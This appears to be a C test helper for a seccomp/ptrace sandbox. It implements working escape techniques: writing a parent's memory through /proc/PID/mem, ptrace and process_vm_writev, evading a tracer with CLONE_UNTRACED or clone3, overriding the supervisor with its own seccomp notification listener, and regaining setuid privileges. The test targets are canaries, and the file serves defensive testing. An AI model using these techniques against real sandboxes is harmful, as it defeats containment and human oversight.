/*
 * escape: the attacks of issue 13 that a program under sysrestrict-exec
 * made on processes outside its filter, for the real-kernel tests. Each
 * mode reports on stdout what the kernel answered.
 *
 *   escape host CMD...     the parent under attack: put a canary in memory,
 *                          run CMD with ESCAPE_ADDR=its address, wait, and
 *                          print "canary HEX" (1111111111111111 untouched)
 *                          and how CMD ended
 *   escape mem             open /proc/PPID/mem for writing and write 8
 *                          bytes at ESCAPE_ADDR in the parent
 *   escape attach          PTRACE_ATTACH to the parent, PTRACE_POKEDATA 8
 *                          bytes at ESCAPE_ADDR, PTRACE_DETACH
 *   escape vmwrite         process_vm_writev 8 bytes at ESCAPE_ADDR in the
 *                          parent
 *   escape syscall-file    read /proc/PPID/syscall (where the parent waits:
 *                          the first step of the /proc/PPID/mem attack)
 *   escape untraced NR     clone a child with CLONE_UNTRACED (out of reach
 *                          of a supervising tracer), seize it with
 *                          PTRACE_O_TRACESECCOMP, let it make syscall NR
 *                          and continue it through any seccomp stop; print
 *                          "child: ret R" if the syscall ran in the child
 *   escape untraced-only NR
 *                          clone with CLONE_UNTRACED, and the child makes
 *                          syscall NR untraced
 *   escape untraced3 NR, escape untraced3-only NR
 *                          the same with clone3, whose flags a seccomp
 *                          filter cannot read
 *   escape creds           print "euid N capeff HEX": the effective user id
 *                          and capabilities it runs with
 *   escape drop-exec PATH ARG...
 *                          print "euid N capeff HEX", give up the effective
 *                          user id (setresuid to the real one), then
 *                          execv(PATH, PATH ARG...): a setuid-root PATH
 *                          gets root again unless no_new_privs is set
 *   escape notify NR       install a seccomp filter of its own that hands
 *                          syscall NR to a user-notification listener (a
 *                          thread started before it), which lets it run
 *                          (SECCOMP_USER_NOTIF_FLAG_CONTINUE); make syscall
 *                          NR and print "notify: ret R"
 *
 * The writes put 4141414141414141 into the parent's canary. Build:
 * cc -O2 -pthread -o escape escape.c
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile uint64_t canary = 0x1111111111111111ULL;
static const uint64_t evil = 0x4141414141414141ULL;

static void report(const char *what, long r) {
	printf("%s: ret %ld errno %d\n", what, r, r < 0 ? errno : 0);
	fflush(stdout);
}

static uintptr_t target(void) {
	const char *a = getenv("ESCAPE_ADDR");
	if (!a) {
		fprintf(stderr, "escape: no ESCAPE_ADDR (run under escape host)\n");
		exit(2);
	}
	return (uintptr_t)strtoull(a, NULL, 16);
}

static int host(char **cmd) {
	char addr[32];
	snprintf(addr, sizeof addr, "%lx", (unsigned long)(uintptr_t)&canary);
	setenv("ESCAPE_ADDR", addr, 1);
	pid_t pid = fork();
	if (pid == 0) {
		execvp(cmd[0], cmd);
		perror(cmd[0]);
		_exit(127);
	}
	int st;
	while (waitpid(pid, &st, 0) < 0 && errno == EINTR)
		;
	printf("canary %016llx\n", (unsigned long long)canary);
	if (WIFSIGNALED(st))
		printf("child signal %d\n", WTERMSIG(st));
	else
		printf("child exit %d\n", WEXITSTATUS(st));
	return 0;
}

static void mem(void) {
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/mem", getppid());
	int fd = open(path, O_RDWR);
	if (fd < 0) {
		report("mem open", fd);
		return;
	}
	report("mem pwrite", pwrite(fd, &evil, sizeof evil, (off_t)target()));
}

static void attach(void) {
	pid_t pp = getppid();
	uintptr_t at = target();
	long r = ptrace(PTRACE_ATTACH, pp, 0, 0);
	if (r < 0) {
		report("attach", r);
		return;
	}
	int st;
	waitpid(pp, &st, __WALL);
	r = ptrace(PTRACE_POKEDATA, pp, (void *)at, (void *)evil);
	report("attach poke", r);
	ptrace(PTRACE_DETACH, pp, 0, 0);
}

static void vmwrite(void) {
	uint64_t v = evil;
	struct iovec local = {&v, sizeof v}, remote = {(void *)target(), sizeof v};
	report("vmwrite", syscall(SYS_process_vm_writev, getppid(), &local, 1, &remote, 1, 0));
}

static void syscall_file(void) {
	char path[64], buf[256];
	snprintf(path, sizeof path, "/proc/%d/syscall", getppid());
	int fd = open(path, O_RDONLY);
	if (fd < 0) {
		report("syscall-file open", fd);
		return;
	}
	report("syscall-file read", read(fd, buf, sizeof buf));
}

/* untraced: the --explain escape. The child, made with clone (or with
 * clone3 when seize has bit 2), waits on a pipe until its parent has
 * seized it (when seize has bit 1), then makes syscall nr; the parent
 * answers every seccomp stop with PTRACE_CONT, which lets the syscall
 * run. */
static void untraced(long nr, int seize) {
	int p[2];
	if (pipe(p) < 0) {
		report("pipe", -1);
		return;
	}
	long pid;
	if (seize & 2) {
		struct clone_args ca;
		memset(&ca, 0, sizeof ca);
		ca.flags = CLONE_UNTRACED;
		ca.exit_signal = SIGCHLD;
		pid = syscall(SYS_clone3, &ca, sizeof ca);
	} else {
		pid = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
	}
	if (pid < 0) {
		report("clone", pid);
		return;
	}
	if (pid == 0) {
		char c;
		close(p[1]);
		if (read(p[0], &c, 1) != 1)
			_exit(3);
		long r = syscall(nr, 0, 0, 0, 0, 0, 0);
		printf("child: ret %ld errno %d\n", r, r < 0 ? errno : 0);
		fflush(stdout);
		_exit(0);
	}
	close(p[0]);
	if (seize & 1) {
		long r = ptrace(PTRACE_SEIZE, pid, 0, (void *)(long)PTRACE_O_TRACESECCOMP);
		report("seize", r);
	}
	if (write(p[1], "x", 1) != 1)
		report("write", -1);
	int st;
	for (;;) {
		if (waitpid(pid, &st, __WALL) < 0)
			break;
		if (WIFEXITED(st) || WIFSIGNALED(st))
			break;
		ptrace(PTRACE_CONT, pid, 0, 0);
	}
	if (WIFSIGNALED(st))
		printf("child signal %d\n", WTERMSIG(st));
	else
		printf("child exit %d\n", WEXITSTATUS(st));
}

/* notify: the --explain escape through a listener of one's own. A
 * filter's SECCOMP_RET_USER_NOTIF outranks the supervisor's
 * SECCOMP_RET_TRACE, and a listener's CONTINUE then runs the syscall. */
static int listener = -1;

static void *listen_thread(void *arg) {
	(void)arg;
	while (__atomic_load_n(&listener, __ATOMIC_SEQ_CST) < 0)
		;
	struct seccomp_notif req;
	struct seccomp_notif_resp resp;
	for (;;) {
		memset(&req, 0, sizeof req);
		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
			return NULL;
		memset(&resp, 0, sizeof resp);
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
	}
}

static void notify(long nr) {
	pthread_t t;
	pthread_create(&t, NULL, listen_thread, NULL);
	struct sock_filter prog[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (unsigned)nr, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog fp = {sizeof prog / sizeof prog[0], prog};
	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	long fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &fp);
	if (fd < 0) {
		report("seccomp", fd);
		return;
	}
	__atomic_store_n(&listener, (int)fd, __ATOMIC_SEQ_CST);
	report("notify", syscall(nr, 0, 0, 0, 0, 0, 0));
}

static void creds(void) {
	char line[256];
	unsigned long long eff = 0;
	FILE *f = fopen("/proc/self/status", "r");
	while (f && fgets(line, sizeof line, f))
		sscanf(line, "CapEff: %llx", &eff);
	if (f)
		fclose(f);
	printf("euid %d capeff %llx\n", (int)geteuid(), eff);
}

int main(int argc, char **argv) {
	if (argc < 2) {
		fprintf(stderr, "usage: escape MODE [ARG...]\n");
		return 2;
	}
	setvbuf(stdout, NULL, _IONBF, 0);
	const char *mode = argv[1];
	if (!strcmp(mode, "host") && argc > 2)
		return host(argv + 2);
	if (!strcmp(mode, "mem"))
		mem();
	else if (!strcmp(mode, "attach"))
		attach();
	else if (!strcmp(mode, "vmwrite"))
		vmwrite();
	else if (!strcmp(mode, "syscall-file"))
		syscall_file();
	else if (!strcmp(mode, "untraced") && argc > 2)
		untraced(strtol(argv[2], NULL, 0), 1);
	else if (!strcmp(mode, "untraced-only") && argc > 2)
		untraced(strtol(argv[2], NULL, 0), 0);
	else if (!strcmp(mode, "untraced3") && argc > 2)
		untraced(strtol(argv[2], NULL, 0), 3);
	else if (!strcmp(mode, "untraced3-only") && argc > 2)
		untraced(strtol(argv[2], NULL, 0), 2);
	else if (!strcmp(mode, "creds"))
		creds();
	else if (!strcmp(mode, "drop-exec") && argc > 2) {
		creds();
		uid_t r = getuid();
		if (setresuid(r, r, r)) {
			perror("escape: setresuid");
			return 2;
		}
		execv(argv[2], argv + 2);
		perror("escape: execv");
		return 2;
	}
	else if (!strcmp(mode, "notify") && argc > 2)
		notify(strtol(argv[2], NULL, 0));
	else {
		fprintf(stderr, "escape: unknown mode %s\n", mode);
		return 2;
	}
	return 0;
}
